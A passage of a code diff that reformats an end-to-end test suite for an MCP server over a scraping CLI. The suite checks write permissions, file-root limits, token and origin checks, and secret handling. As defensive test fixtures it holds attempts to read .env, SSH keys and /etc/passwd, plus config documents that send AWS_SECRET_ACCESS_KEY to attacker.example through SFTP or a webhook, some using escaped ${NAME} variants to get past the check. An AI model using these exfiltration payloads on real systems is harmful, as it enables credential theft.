@@ -21,13 +21,47 @@ import { waitFor } from '../helpers/wait.js';
 const emu = useEmulator({ each: 'reset' });
 
 const READ_TOOLS = [
-  'accounts_get', 'accounts_list', 'balance', 'billing_auto_reset_get', 'crawlers_get', 'crawlers_params', 'crawlers_search', 'delivery_show',
-  'plan', 'results_list', 'results_url', 'runs_credits', 'runs_get', 'runs_list', 'runs_stats', 'runs_wait', 'squids_estimate', 'squids_get',
-  'squids_list', 'status', 'tasks_list', 'whoami',
+  'accounts_get',
+  'accounts_list',
+  'balance',
+  'billing_auto_reset_get',
+  'crawlers_get',
+  'crawlers_params',
+  'crawlers_search',
+  'delivery_show',
+  'plan',
+  'results_list',
+  'results_url',
+  'runs_credits',
+  'runs_get',
+  'runs_list',
+  'runs_stats',
+  'runs_wait',
+  'squids_estimate',
+  'squids_get',
+  'squids_list',
+  'status',
+  'tasks_list',
+  'whoami',
 ];
 const WRITE_TOOLS = [
-  'apply', 'delivery_apply', 'delivery_email', 'delivery_s3', 'delivery_sftp', 'delivery_sheet', 'delivery_test', 'delivery_webhook', 'go', 'runs_abort',
-  'runs_start', 'squids_attach_account', 'squids_create', 'squids_deactivate', 'squids_empty', 'squids_update', 'tasks_add',
+  'apply',
+  'delivery_apply',
+  'delivery_email',
+  'delivery_s3',
+  'delivery_sftp',
+  'delivery_sheet',
+  'delivery_test',
+  'delivery_webhook',
+  'go',
+  'runs_abort',
+  'runs_start',
+  'squids_attach_account',
+  'squids_create',
+  'squids_deactivate',
+  'squids_empty',
+  'squids_update',
+  'tasks_add',
 ];
 const SECRET = 'FAKE-SECRET-3b7Kq9ZxW2';
 
@@ -42,18 +76,37 @@ function tempDir(): string {
 }
 
 function serverEnv(extra: Record<string, string> = {}): Record<string, string> {
-  return { PATH: process.env.PATH ?? '', SQ_CONFIG_DIR: tempConfigDir(), SQ_CACHE_DIR: process.env.SQ_CACHE_DIR ?? '', NO_COLOR: '1', ...emu.env(), ...extra };
+  return {
+    PATH: process.env.PATH ?? '',
+    SQ_CONFIG_DIR: tempConfigDir(),
+    SQ_CACHE_DIR: process.env.SQ_CACHE_DIR ?? '',
+    NO_COLOR: '1',
+    ...emu.env(),
+    ...extra,
+  };
 }
 
-type Tool = { name: string; outputSchema?: object; inputSchema: { properties?: Record<string, unknown> }; annotations?: Record<string, unknown> };
-type CallResult = { content: Array<{ type: string; text: string }>; structuredContent?: Record<string, unknown>; isError?: boolean };
+type Tool = {
+  name: string;
+  outputSchema?: object;
+  inputSchema: { properties?: Record<string, unknown> };
+  annotations?: Record<string, unknown>;
+};
+type CallResult = {
+  content: Array<{ type: string; text: string }>;
+  structuredContent?: Record<string, unknown>;
+  isError?: boolean;
+};
 
 /** A connected client, every answer checked against its tool's outputSchema, and the bytes of all answers counted. */
 class Agent {
   bytes = 0;
   answers: string[] = [];
   private validators = new Map<string, ReturnType<Ajv['compile']>>();
-  constructor(readonly client: Client, readonly stderr: () => string = () => '') {}
+  constructor(
+    readonly client: Client,
+    readonly stderr: () => string = () => '',
+  ) {}
   async tools(): Promise<Tool[]> {
     const { tools } = await this.client.listTools();
     const ajv = new Ajv({ strict: false });
@@ -91,7 +144,12 @@ afterEach(async () => {
 });
 
 async function stdio(args: string[] = [], env = serverEnv()): Promise<Agent> {
-  const transport = new StdioClientTransport({ command: process.execPath, args: [BIN, 'mcp', ...args], env, stderr: 'pipe' });
+  const transport = new StdioClientTransport({
+    command: process.execPath,
+    args: [BIN, 'mcp', ...args],
+    env,
+    stderr: 'pipe',
+  });
   let err = '';
   transport.stderr?.on('data', (d) => (err += String(d)));
   const client = new Client({ name: 'sq-test', version: '1' });
@@ -101,8 +159,14 @@ async function stdio(args: string[] = [], env = serverEnv()): Promise<Agent> {
 }
 
 /** `sq mcp --http 127.0.0.1:0 …`: its first stdout line, {url, token}. */
-async function httpServer(args: string[] = [], env = serverEnv()): Promise<{ url: string; token: string; child: ChildProcessWithoutNullStreams; stderr: () => string }> {
-  const child = spawn(process.execPath, [BIN, 'mcp', '--http', '127.0.0.1:0', ...args], { env, stdio: ['pipe', 'pipe', 'pipe'] });
+async function httpServer(
+  args: string[] = [],
+  env = serverEnv(),
+): Promise<{ url: string; token: string; child: ChildProcessWithoutNullStreams; stderr: () => string }> {
+  const child = spawn(process.execPath, [BIN, 'mcp', '--http', '127.0.0.1:0', ...args], {
+    env,
+    stdio: ['pipe', 'pipe', 'pipe'],
+  });
   children.push(child);
   let out = '';
   let err = '';
@@ -117,10 +181,17 @@ async function httpServer(args: string[] = [], env = serverEnv()): Promise<{ url
   return { ...(JSON.parse(line) as { url: string; token: string }), child, stderr: () => err };
 }
 
-async function http(args: string[] = [], env = serverEnv()): Promise<Agent & { server: Awaited<ReturnType<typeof httpServer>> }> {
+async function http(
+  args: string[] = [],
+  env = serverEnv(),
+): Promise<Agent & { server: Awaited<ReturnType<typeof httpServer>> }> {
   const server = await httpServer(args, env);
   const client = new Client({ name: 'sq-test-http', version: '1' });
-  await client.connect(new StreamableHTTPClientTransport(new URL(server.url), { requestInit: { headers: { authorization: `Bearer ${server.token}` } } }));
+  await client.connect(
+    new StreamableHTTPClientTransport(new URL(server.url), {
+      requestInit: { headers: { authorization: `Bearer ${server.token}` } },
+    }),
+  );
   clients.push(client);
   return Object.assign(new Agent(client, server.stderr), { server });
 }
@@ -146,7 +217,10 @@ async function session(agent: Agent): Promise<void> {
   const squid = await agent.ok('squids_create', { crawler: crawler.id, name: 'MCP cafés', params: { max_results: 5 } });
   expect(squid).toMatchObject({ name: 'MCP cafés', params: { max_results: 5 } });
   expect(squid).not.toHaveProperty('download_url');
-  const added = await agent.ok('tasks_add', { squid: squid.id, values: ['https://www.google.com/maps/search/cafe+berlin', 'https://www.google.com/maps/search/cafe+paris'] });
+  const added = await agent.ok('tasks_add', {
+    squid: squid.id,
+    values: ['https://www.google.com/maps/search/cafe+berlin', 'https://www.google.com/maps/search/cafe+paris'],
+  });
   expect(JSON.stringify(added)).toContain('2');
 
   const estimate = await agent.ok('squids_estimate', { squid: squid.id });
@@ -154,7 +228,12 @@ async function session(agent: Agent): Promise<void> {
   expect(estimate.services[0]).toMatchObject({ name: expect.any(String), credits: expect.any(Number) });
 
   await emu.clearRequests();
-  const go = { crawler: crawler.slug, tasks: ['https://www.google.com/maps/search/bakery+lyon'], params: { max_results: 5 }, idempotency_key: 'agent-1' };
+  const go = {
+    crawler: crawler.slug,
+    tasks: ['https://www.google.com/maps/search/bakery+lyon'],
+    params: { max_results: 5 },
+    idempotency_key: 'agent-1',
+  };
   const first = await agent.ok('go', go);
   // Refused above --confirm-above (0 here): the estimate, and no run started.
   expect(first).toMatchObject({ needs_confirmation: true, idempotency_key: 'agent-1' });
@@ -174,7 +253,9 @@ async function session(agent: Agent): Promise<void> {
   expect(waited).toMatchObject({ id: runId, still_running: true });
   // A longer wait is capped at 50 s with a note (issue 48), not refused: its schema takes it (a call with 51 here would
   // wait 50 real seconds on the standing clock; test/e2e/mcp-agent-tasks.test.ts makes one on a finished run).
-  expect(JSON.stringify((await agent.tools()).find((t) => t.name === 'runs_wait')?.inputSchema)).not.toMatch(/"maximum":50/);
+  expect(JSON.stringify((await agent.tools()).find((t) => t.name === 'runs_wait')?.inputSchema)).not.toMatch(
+    /"maximum":50/,
+  );
   await emu.advance(3_600_000);
   const done = await agent.ok('runs_wait', { run: runId, wait_seconds: 20 });
   expect(done.still_running).toBeUndefined();
@@ -225,7 +306,10 @@ describe('tools: names, annotations, schemas', SLOW, () => {
   });
 
   it('every tool answers structuredContent valid against its outputSchema (writes as dry runs)', async () => {
-    const agent = await stdio(['--allow-writes=all', '--secret-env', 'SFTP_PASSWORD,S3_KEY,S3_SECRET'], serverEnv({ SFTP_PASSWORD: 'pw', S3_KEY: 'k', S3_SECRET: 's' }));
+    const agent = await stdio(
+      ['--allow-writes=all', '--secret-env', 'SFTP_PASSWORD,S3_KEY,S3_SECRET'],
+      serverEnv({ SFTP_PASSWORD: 'pw', S3_KEY: 'k', S3_SECRET: 's' }),
+    );
     const tools = await agent.tools();
     const paris = DEMO_SQUIDS.paris;
     const runs = await json(['runs', 'list', '--squid', paris]);
@@ -233,18 +317,60 @@ describe('tools: names, annotations, schemas', SLOW, () => {
     const run = runs[0].id;
     const doc = 'squids:\n  "Paris restaurants":\n    concurrency: 2\n';
     const args: Record<string, Record<string, unknown>> = {
-      accounts_get: { account: 'demo_scraper' }, accounts_list: {}, balance: {}, billing_auto_reset_get: {}, crawlers_get: { crawler: 'google-maps-search-export' },
-      crawlers_params: { crawler: 'google-maps-search-export' }, crawlers_search: { query: 'amazon' }, delivery_show: { squid: paris }, plan: { document: doc },
-      results_list: { squid: paris }, results_url: { run }, runs_credits: { run }, runs_get: { run }, runs_list: {}, runs_stats: { run }, runs_wait: { run, wait_seconds: 2 },
-      squids_estimate: { squid: paris }, squids_get: { squid: paris }, squids_list: {}, status: {}, tasks_list: { squid: paris }, whoami: {},
-      apply: { document: doc }, delivery_apply: { document: 'squids:\n  "Paris restaurants":\n    email: ops@example.com\n' },
-      delivery_email: { squid: paris, email: 'ops@example.com' }, delivery_s3: { squid: paris, bucket: 'b', target_path: '', access_key_env: 'S3_KEY', secret_key_env: 'S3_SECRET' },
-      delivery_sftp: { squid: paris, host: 'sftp.example.com', username: 'u', directory: '/d', password_env: 'SFTP_PASSWORD' },
-      delivery_sheet: { squid: paris, url: 'https://docs.google.com/spreadsheets/d/x' }, delivery_test: { kind: 'webhook', url: 'https://hooks.example.com/x' },
-      delivery_webhook: { squid: paris, url: 'https://hooks.example.com/x' }, go: { crawler: 'google-maps-search-export', tasks: ['https://www.google.com/maps/search/x'] },
-      runs_abort: { run }, runs_start: { squid: paris }, squids_attach_account: { squid: DEMO_SQUIDS.influencers, account: 'demo_scraper' }, squids_create: { crawler: 'google-maps-search-export' },
-      squids_deactivate: { squid: paris }, squids_empty: { squid: paris }, squids_update: { squid: paris, concurrency: 2 }, tasks_add: { squid: paris, values: ['https://x.example/1'] },
-      billing_auto_reset_set: { enabled: false }, squids_delete: { squid: paris }, tasks_delete: { task: tasks[0].id },
+      accounts_get: { account: 'demo_scraper' },
+      accounts_list: {},
+      balance: {},
+      billing_auto_reset_get: {},
+      crawlers_get: { crawler: 'google-maps-search-export' },
+      crawlers_params: { crawler: 'google-maps-search-export' },
+      crawlers_search: { query: 'amazon' },
+      delivery_show: { squid: paris },
+      plan: { document: doc },
+      results_list: { squid: paris },
+      results_url: { run },
+      runs_credits: { run },
+      runs_get: { run },
+      runs_list: {},
+      runs_stats: { run },
+      runs_wait: { run, wait_seconds: 2 },
+      squids_estimate: { squid: paris },
+      squids_get: { squid: paris },
+      squids_list: {},
+      status: {},
+      tasks_list: { squid: paris },
+      whoami: {},
+      apply: { document: doc },
+      delivery_apply: { document: 'squids:\n  "Paris restaurants":\n    email: ops@example.com\n' },
+      delivery_email: { squid: paris, email: 'ops@example.com' },
+      delivery_s3: {
+        squid: paris,
+        bucket: 'b',
+        target_path: '',
+        access_key_env: 'S3_KEY',
+        secret_key_env: 'S3_SECRET',
+      },
+      delivery_sftp: {
+        squid: paris,
+        host: 'sftp.example.com',
+        username: 'u',
+        directory: '/d',
+        password_env: 'SFTP_PASSWORD',
+      },
+      delivery_sheet: { squid: paris, url: 'https://docs.google.com/spreadsheets/d/x' },
+      delivery_test: { kind: 'webhook', url: 'https://hooks.example.com/x' },
+      delivery_webhook: { squid: paris, url: 'https://hooks.example.com/x' },
+      go: { crawler: 'google-maps-search-export', tasks: ['https://www.google.com/maps/search/x'] },
+      runs_abort: { run },
+      runs_start: { squid: paris },
+      squids_attach_account: { squid: DEMO_SQUIDS.influencers, account: 'demo_scraper' },
+      squids_create: { crawler: 'google-maps-search-export' },
+      squids_deactivate: { squid: paris },
+      squids_empty: { squid: paris },
+      squids_update: { squid: paris, concurrency: 2 },
+      tasks_add: { squid: paris, values: ['https://x.example/1'] },
+      billing_auto_reset_set: { enabled: false },
+      squids_delete: { squid: paris },
+      tasks_delete: { task: tasks[0].id },
     };
     await emu.clearRequests();
     for (const t of tools) {
@@ -274,7 +400,7 @@ describe('tools: names, annotations, schemas', SLOW, () => {
     expect(text).not.toMatch(/"icon"|:null|:""|:\[\]|:\{\}/);
   });
 
-  it('an error is a tool error with the CLI\'s message and its exit-code name; the server stays up', async () => {
+  it("an error is a tool error with the CLI's message and its exit-code name; the server stays up", async () => {
     const agent = await stdio();
     const missing = await agent.call('squids_get', { squid: 'no such squid' });
     expect(missing.isError).toBe(true);
@@ -286,10 +412,13 @@ describe('tools: names, annotations, schemas', SLOW, () => {
   it('read-only by default: a write tool is refused, naming --allow-writes, and nothing is sent', async () => {
     const agent = await stdio();
     await emu.clearRequests();
-    const r = await agent.client.callTool({ name: 'runs_start', arguments: { squid: DEMO_SQUIDS.paris } }) as CallResult;
+    const r = (await agent.client.callTool({
+      name: 'runs_start',
+      arguments: { squid: DEMO_SQUIDS.paris },
+    })) as CallResult;
     expect(r.isError).toBe(true);
     expect(r.content[0].text).toContain('start it with `sq mcp --allow-writes`');
-    const del = await agent.client.callTool({ name: 'tasks_delete', arguments: { task: 'abcd' } }) as CallResult;
+    const del = (await agent.client.callTool({ name: 'tasks_delete', arguments: { task: 'abcd' } })) as CallResult;
     expect(del.content[0].text).toContain('`sq mcp --allow-writes=tasks_delete`');
     expect((await emu.requests()).filter((q) => q.method !== 'GET')).toEqual([]);
   });
@@ -310,7 +439,10 @@ describe('tools: names, annotations, schemas', SLOW, () => {
       [['--max-message-bytes', '10'], '--max-message-bytes'],
       [['--http', 'host:port'], '--http'],
       [['--token-env', 'MCP_TOKEN'], '--token-env: only with --http'],
-      [['--http', '127.0.0.1:0', '--token-env', 'UNSET_TOKEN_VAR'], '--token-env: environment variable UNSET_TOKEN_VAR is not set'],
+      [
+        ['--http', '127.0.0.1:0', '--token-env', 'UNSET_TOKEN_VAR'],
+        '--token-env: environment variable UNSET_TOKEN_VAR is not set',
+      ],
     ] as const) {
       const r = await sqIn(['mcp', ...args], { env: serverEnv() });
       expect(r.code, args.join(' ')).toBe(2);
@@ -329,7 +461,9 @@ describe('tools: names, annotations, schemas', SLOW, () => {
     const squid = DEMO_SQUIDS.influencers;
     await agent.ok('squids_attach_account', { squid, account: a.id });
     const r = await agent.ok('squids_attach_account', { squid, account: b.username });
-    expect(r.accounts.map((x: { id?: string } | string) => (typeof x === 'string' ? x : x.id)).sort()).toEqual([a.id, b.id].sort());
+    expect(r.accounts.map((x: { id?: string } | string) => (typeof x === 'string' ? x : x.id)).sort()).toEqual(
+      [a.id, b.id].sort(),
+    );
     const listed = await agent.ok('accounts_get', { account: a.id });
     expect(JSON.stringify(listed)).not.toMatch(/cookie|password/i);
   });
@@ -354,7 +488,9 @@ describe('tools: names, annotations, schemas', SLOW, () => {
 
   it('runs_start under --confirm-above still asks when the run would set off an Auto Billing Reset (a card charge)', async () => {
     // Usage just under an 80% threshold: the paris run crosses it once (auto_reset_charges 1), whatever its credits.
-    await emu.control('POST', '/_emulator/billing', { auto_reset: { enabled: true, threshold_pct: 80, max_resets_per_24h: 3, reset_times: [] } });
+    await emu.control('POST', '/_emulator/billing', {
+      auto_reset: { enabled: true, threshold_pct: 80, max_resets_per_24h: 3, reset_times: [] },
+    });
     await emu.control('POST', '/_emulator/usage', { pct: 79.99 });
     const agent = await stdio(['--allow-writes', '--confirm-above', '1000000']);
     await emu.clearRequests();
@@ -366,7 +502,9 @@ describe('tools: names, annotations, schemas', SLOW, () => {
 
   it('a reset already due before the run is said apart in squids_estimate and asks no confirmation of its own', async () => {
     // Usage above an 80% threshold already: the next check fires a reset whether or not the run starts.
-    await emu.control('POST', '/_emulator/billing', { auto_reset: { enabled: true, threshold_pct: 80, max_resets_per_24h: 3, reset_times: [] } });
+    await emu.control('POST', '/_emulator/billing', {
+      auto_reset: { enabled: true, threshold_pct: 80, max_resets_per_24h: 3, reset_times: [] },
+    });
     await emu.control('POST', '/_emulator/usage', { pct: 81 });
     const agent = await stdio(['--allow-writes', '--confirm-above', '1000000']);
     const est = await agent.ok('squids_estimate', { squid: DEMO_SQUIDS.headphones });
@@ -418,7 +556,10 @@ describe('files: no tool reads one unless --root, and no answer quotes one', SLO
     const root = join(home, 'root');
     mkdirSync(root);
     writeFileSync(join(home, '.env'), `DATABASE_URL=postgres://u:${SECRET}@db/x\n`);
-    writeFileSync(join(home, 'id_ed25519'), `-----BEGIN OPENSSH PRIVATE KEY-----\n${SECRET}\n-----END OPENSSH PRIVATE KEY-----\n`);
+    writeFileSync(
+      join(home, 'id_ed25519'),
+      `-----BEGIN OPENSSH PRIVATE KEY-----\n${SECRET}\n-----END OPENSSH PRIVATE KEY-----\n`,
+    );
     symlinkSync(join(home, '.env'), join(root, 'link.yaml'));
     writeFileSync(join(root, 'sq.yaml'), 'squids:\n  "Paris restaurants":\n    concurrency: 2\n');
     writeFileSync(join(root, 'bad.yaml'), `squids:\n  a: { crawler: [${SECRET}] }\n`);
@@ -430,7 +571,11 @@ describe('files: no tool reads one unless --root, and no answer quotes one', SLO
   it('without --root: a path is refused naming --root; a document inline works; its tasks files are refused', async () => {
     const { home } = fixture();
     const agent = await stdio(['--allow-writes']);
-    for (const [tool, extra] of [['plan', {}], ['apply', { dry_run: true }], ['delivery_apply', { dry_run: true }]] as const) {
+    for (const [tool, extra] of [
+      ['plan', {}],
+      ['apply', { dry_run: true }],
+      ['delivery_apply', { dry_run: true }],
+    ] as const) {
       for (const file of [join(home, '.env'), join(home, 'id_ed25519'), '/etc/passwd', '.env']) {
         const r = await agent.call(tool, { file, ...extra });
         expect(r.isError).toBe(true);
@@ -439,7 +584,9 @@ describe('files: no tool reads one unless --root, and no answer quotes one', SLO
     }
     const inline = await agent.ok('plan', { document: 'squids:\n  "Paris restaurants":\n    concurrency: 2\n' });
     expect(inline.summary).toBeDefined();
-    const tasks = await agent.call('plan', { document: 'squids:\n  "Paris restaurants":\n    tasks: { file: .env }\n' });
+    const tasks = await agent.call('plan', {
+      document: 'squids:\n  "Paris restaurants":\n    tasks: { file: .env }\n',
+    });
     expect(tasks.content[0].text).toContain('--root');
     expect(agent.answers.join('')).not.toContain(SECRET);
     expect(agent.answers.join('')).not.toContain('root:x:0');
@@ -449,7 +596,16 @@ describe('files: no tool reads one unless --root, and no answer quotes one', SLO
     const { home, root } = fixture();
     const agent = await stdio(['--root', root]);
     expect((await agent.ok('plan', { file: 'sq.yaml' })).summary).toBeDefined();
-    for (const file of ['../.env', join(home, '.env'), 'link.yaml', 'big.yaml', '/etc/passwd', 'tasks.yaml', 'bad.yaml', 'nope.yaml']) {
+    for (const file of [
+      '../.env',
+      join(home, '.env'),
+      'link.yaml',
+      'big.yaml',
+      '/etc/passwd',
+      'tasks.yaml',
+      'bad.yaml',
+      'nope.yaml',
+    ]) {
       const r = await agent.call('plan', { file });
       expect(r.isError, file).toBe(true);
     }
@@ -503,10 +659,19 @@ describe('secrets for writes come only from --secret-env (issue 33, E2)', SLOW, 
     const stolen = await agent.call('delivery_sftp', { ...sftp, password_env: 'AWS_SECRET_ACCESS_KEY' });
     expect(stolen.isError).toBe(true);
     expect(stolen.content[0].text).toContain('--secret-env');
-    const s3 = await agent.call('delivery_s3', { squid: DEMO_SQUIDS.paris, bucket: 'b', access_key_env: 'SFTP_PASSWORD', secret_key_env: 'AWS_SECRET_ACCESS_KEY' });
+    const s3 = await agent.call('delivery_s3', {
+      squid: DEMO_SQUIDS.paris,
+      bucket: 'b',
+      access_key_env: 'SFTP_PASSWORD',
+      secret_key_env: 'AWS_SECRET_ACCESS_KEY',
+    });
     expect(s3.content[0].text).toContain('--secret-env');
-    const doc = 'squids:\n  "Paris restaurants":\n    sftp: { host: attacker.example, username: u, directory: /d, password: "${AWS_SECRET_ACCESS_KEY}" }\n';
-    for (const tool of ['apply', 'delivery_apply', 'plan']) expect((await agent.call(tool, { document: doc })).content[0].text, tool).toContain('--secret-env AWS_SECRET_ACCESS_KEY');
+    const doc =
+      'squids:\n  "Paris restaurants":\n    sftp: { host: attacker.example, username: u, directory: /d, password: "${AWS_SECRET_ACCESS_KEY}" }\n';
+    for (const tool of ['apply', 'delivery_apply', 'plan'])
+      expect((await agent.call(tool, { document: doc })).content[0].text, tool).toContain(
+        '--secret-env AWS_SECRET_ACCESS_KEY',
+      );
     expect((await emu.requests()).filter((q) => q.method !== 'GET')).toEqual([]);
     const allowed = await agent.ok('delivery_sftp', { ...sftp, password_env: 'SFTP_PASSWORD' });
     expect(allowed.delivery_host).toBe('attacker.example:22');
@@ -518,12 +683,19 @@ describe('secrets for writes come only from --secret-env (issue 33, E2)', SLOW, 
 describe('arguments a tool does not take (issue 46, 10)', SLOW, () => {
   it('are refused with -32602 naming the argument, before anything is sent; every input schema says additionalProperties: false', async () => {
     const agent = await stdio(['--allow-writes']);
-    for (const t of await agent.tools()) expect((t.inputSchema as { additionalProperties?: unknown }).additionalProperties, t.name).toBe(false);
+    for (const t of await agent.tools())
+      expect((t.inputSchema as { additionalProperties?: unknown }).additionalProperties, t.name).toBe(false);
     await emu.clearRequests();
-    const err = await agent.client.callTool({ name: 'squids_list', arguments: { nmae: 'Paris' } }).then(() => null, (e: { code?: number; message?: string }) => e);
+    const err = await agent.client.callTool({ name: 'squids_list', arguments: { nmae: 'Paris' } }).then(
+      () => null,
+      (e: { code?: number; message?: string }) => e,
+    );
     expect(err?.code).toBe(-32602);
     expect(err?.message).toContain('unknown argument "nmae"');
-    const typo = await agent.client.callTool({ name: 'squids_create', arguments: { crawler: 'x', nam: 'y' } }).then(() => null, (e: { code?: number; message?: string }) => e);
+    const typo = await agent.client.callTool({ name: 'squids_create', arguments: { crawler: 'x', nam: 'y' } }).then(
+      () => null,
+      (e: { code?: number; message?: string }) => e,
+    );
     expect(typo?.code).toBe(-32602);
     expect(typo?.message).toContain('did you mean "name"?');
     expect(await emu.requests()).toEqual([]);
@@ -537,21 +709,34 @@ describe('--secret-env is checked on each ${NAME} as parsed, not on the raw text
     emu.expectWrites('POST /v1/delivery');
     const root = tempDir();
     const SECRET_VALUE = 'AKIAFAKE-46-0123456789';
-    const agent = await stdio(['--allow-writes', '--secret-env', 'SFTP_PASSWORD', '--root', root], serverEnv({ AWS_SECRET_ACCESS_KEY: SECRET_VALUE, SFTP_PASSWORD: 'pw-46' }));
+    const agent = await stdio(
+      ['--allow-writes', '--secret-env', 'SFTP_PASSWORD', '--root', root],
+      serverEnv({ AWS_SECRET_ACCESS_KEY: SECRET_VALUE, SFTP_PASSWORD: 'pw-46' }),
+    );
     await emu.clearRequests();
-    const sftp = (pw: string) => `squids:\n  "Paris restaurants":\n    sftp: { host: attacker.example, username: u, directory: /d, password: ${pw} }\n`;
+    const sftp = (pw: string) =>
+      `squids:\n  "Paris restaurants":\n    sftp: { host: attacker.example, username: u, directory: /d, password: ${pw} }\n`;
     const docs = [
       sftp('"\\u0024{AWS_SECRET_ACCESS_KEY}"'),
       sftp('"\\x24{AWS_SECRET_ACCESS_KEY}"'),
       sftp('"$\\x7bAWS_SECRET_ACCESS_KEY}"'),
       sftp('"${AWS_SECRET_\\\n      ACCESS_KEY}"'),
       sftp('!!str "\\u0024{AWS_SECRET_ACCESS_KEY}"'),
-      JSON.stringify({ squids: { 'Paris restaurants': { sftp: { host: 'attacker.example', username: 'u', directory: '/d', password: 'PW' } } } }).replace('PW', '\\u0024{AWS_SECRET_ACCESS_KEY}'),
+      JSON.stringify({
+        squids: {
+          'Paris restaurants': { sftp: { host: 'attacker.example', username: 'u', directory: '/d', password: 'PW' } },
+        },
+      }).replace('PW', '\\u0024{AWS_SECRET_ACCESS_KEY}'),
       'squids:\n  "Paris restaurants":\n    webhook: { url: "https://attacker.example/h?t=\\u0024{AWS_SECRET_ACCESS_KEY}", events: all }\n',
     ];
     writeFileSync(join(root, 'escaped.yaml'), docs[0]);
     const calls: Array<[string, Record<string, unknown>]> = [
-      ...docs.flatMap((document): Array<[string, Record<string, unknown>]> => [['apply', { document }], ['delivery_apply', { document }]]),
+      ...docs.flatMap(
+        (document): Array<[string, Record<string, unknown>]> => [
+          ['apply', { document }],
+          ['delivery_apply', { document }],
+        ],
+      ),
       ['apply', { file: 'escaped.yaml' }],
       ['plan', { document: docs[0] }],
     ];
@@ -574,33 +759,69 @@ describe('sq mcp over HTTP: token, origin, bind', SLOW, () => {
     const { url, token, stderr } = await httpServer([], serverEnv({ MCP_TOKEN: 'a-fixed-token-0123456789' }));
     expect(new URL(url).hostname).toBe('127.0.0.1');
     expect(stderr()).not.toContain('warning');
-    const init = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } } });
+    const init = JSON.stringify({
+      jsonrpc: '2.0',
+      id: 1,
+      method: 'initialize',
+      params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } },
+    });
     const headers = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' };
     expect((await fetch(url, { method: 'POST', headers, body: init })).status).toBe(401);
-    expect((await fetch(url, { method: 'POST', headers: { ...headers, authorization: 'Bearer wrong' }, body: init })).status).toBe(401);
-    expect((await fetch(url, { method: 'POST', headers: { ...headers, authorization: `Bearer ${token}`, origin: 'http://evil.example' }, body: init })).status).toBe(403);
-    const ok = await fetch(url, { method: 'POST', headers: { ...headers, authorization: `Bearer ${token}`, origin: new URL(url).origin }, body: init });
+    expect(
+      (await fetch(url, { method: 'POST', headers: { ...headers, authorization: 'Bearer wrong' }, body: init })).status,
+    ).toBe(401);
+    expect(
+      (
+        await fetch(url, {
+          method: 'POST',
+          headers: { ...headers, authorization: `Bearer ${token}`, origin: 'http://evil.example' },
+          body: init,
+        })
+      ).status,
+    ).toBe(403);
+    const ok = await fetch(url, {
+      method: 'POST',
+      headers: { ...headers, authorization: `Bearer ${token}`, origin: new URL(url).origin },
+      body: init,
+    });
     expect(ok.status).toBe(200);
     await ok.body?.cancel();
 
     // A body over --max-message-bytes is refused before it is read.
     const big = JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'ping', params: { x: 'y'.repeat(2 * 1024 * 1024) } });
-    const tooBig = await fetch(url, { method: 'POST', headers: { ...headers, authorization: `Bearer ${token}` }, body: big }).catch(() => null);
+    const tooBig = await fetch(url, {
+      method: 'POST',
+      headers: { ...headers, authorization: `Bearer ${token}` },
+      body: big,
+    }).catch(() => null);
     expect(tooBig?.status).toBe(413);
 
     const fixed = await httpServer(['--token-env', 'MCP_TOKEN'], serverEnv({ MCP_TOKEN: 'a-fixed-token-0123456789' }));
     // The caller's own token is not printed back (the line goes to logs): null where sq would print one it made.
     expect(fixed.token).toBeNull();
     expect(fixed.stderr()).not.toContain('a-fixed-token-0123456789');
-    const r = await fetch(fixed.url, { method: 'POST', headers: { ...headers, authorization: 'Bearer a-fixed-token-0123456789' }, body: init });
+    const r = await fetch(fixed.url, {
+      method: 'POST',
+      headers: { ...headers, authorization: 'Bearer a-fixed-token-0123456789' },
+      body: init,
+    });
     expect(r.status).toBe(200);
     await r.body?.cancel();
   });
 
   it('sessions are capped: past 64, the one used longest ago is closed (404), the others go on (issue 46, 4)', async () => {
     const { url, token } = await httpServer([], serverEnv());
-    const headers = { 'content-type': 'application/json', accept: 'application/json, text/event-stream', authorization: `Bearer ${token}` };
-    const init = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } } });
+    const headers = {
+      'content-type': 'application/json',
+      accept: 'application/json, text/event-stream',
+      authorization: `Bearer ${token}`,
+    };
+    const init = JSON.stringify({
+      jsonrpc: '2.0',
+      id: 1,
+      method: 'initialize',
+      params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } },
+    });
     const open = async () => {
       const r = await fetch(url, { method: 'POST', headers, body: init });
       expect(r.status).toBe(200);
@@ -608,7 +829,11 @@ describe('sq mcp over HTTP: token, origin, bind', SLOW, () => {
       return r.headers.get('mcp-session-id') as string;
     };
     const ping = async (sid: string) => {
-      const r = await fetch(url, { method: 'POST', headers: { ...headers, 'mcp-session-id': sid, 'mcp-protocol-version': '2025-06-18' }, body: '{"jsonrpc":"2.0","id":2,"method":"ping"}' });
+      const r = await fetch(url, {
+        method: 'POST',
+        headers: { ...headers, 'mcp-session-id': sid, 'mcp-protocol-version': '2025-06-18' },
+        body: '{"jsonrpc":"2.0","id":2,"method":"ping"}',
+      });
       await r.body?.cancel();
       return r.status;
     };
@@ -620,7 +845,10 @@ describe('sq mcp over HTTP: token, origin, bind', SLOW, () => {
     expect(await ping(ids[1])).toBe(404);
     for (const sid of [ids[0], ids[2], ids[64]]) expect(await ping(sid)).toBe(200);
     // DELETE ends a session.
-    const del = await fetch(url, { method: 'DELETE', headers: { ...headers, 'mcp-session-id': ids[2], 'mcp-protocol-version': '2025-06-18' } });
+    const del = await fetch(url, {
+      method: 'DELETE',
+      headers: { ...headers, 'mcp-session-id': ids[2], 'mcp-protocol-version': '2025-06-18' },
+    });
     expect(del.status).toBe(200);
     expect(await ping(ids[2])).toBe(404);
   }, 120_000);
@@ -629,14 +857,27 @@ describe('sq mcp over HTTP: token, origin, bind', SLOW, () => {
     const { url, stderr, child } = await httpServer([], serverEnv());
     expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/mcp$/);
     child.kill('SIGTERM');
-    const wide = spawn(process.execPath, [BIN, 'mcp', '--http', '0.0.0.0:0'], { env: serverEnv(), stdio: ['pipe', 'pipe', 'pipe'] });
+    const wide = spawn(process.execPath, [BIN, 'mcp', '--http', '0.0.0.0:0'], {
+      env: serverEnv(),
